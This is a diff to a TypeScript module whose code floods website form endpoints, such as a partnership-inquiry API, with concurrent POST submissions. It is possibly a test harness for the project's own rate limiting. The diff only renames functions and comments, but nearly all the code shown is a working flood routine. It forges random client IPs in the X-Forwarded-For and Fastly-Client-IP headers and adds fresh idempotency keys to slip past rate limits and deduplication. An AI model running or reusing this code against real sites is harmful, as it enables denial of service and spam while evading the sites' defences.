@@ -12,10 +12,10 @@ const BODIES = [
   { path: '/api/partnership-inquiry', body: partnership },
 ] as const;
 
-const someAddress = () => Array.from({ length: 4 }, () => randomInt(1, 255)).join('.');
+const randomAddress = () => Array.from({ length: 4 }, () => randomInt(1, 255)).join('.');
 
 /** Floods sites with submissions from forged addresses until it is stopped. */
-export function attack(origins: readonly string[], concurrency: number) {
+export function startFlood(origins: readonly string[], concurrency: number) {
   let stopped = false;
   let sent = 0;
   const attacker = async () => {
@@ -24,8 +24,8 @@ export function attack(origins: readonly string[], concurrency: number) {
       const origin = origins[sent % origins.length]!;
       sent += 1;
       const headers = {
-        'X-Forwarded-For': `${someAddress()}, ${someAddress()}`,
-        'Fastly-Client-IP': someAddress(),
+        'X-Forwarded-For': `${randomAddress()}, ${randomAddress()}`,
+        'Fastly-Client-IP': randomAddress(),
         'Idempotency-Key': randomUUID(),
       };
       const response = await post(`${origin}${path}`, body, headers).catch(() => undefined);
@@ -34,7 +34,7 @@ export function attack(origins: readonly string[], concurrency: number) {
   };
   const attackers = Array.from({ length: concurrency }, attacker);
   return {
-    /** Returns the number of requests. */
+    /** Stops the flood and returns the number of requests. */
     async stop(): Promise<number> {
       stopped = true;
       await Promise.all(attackers);
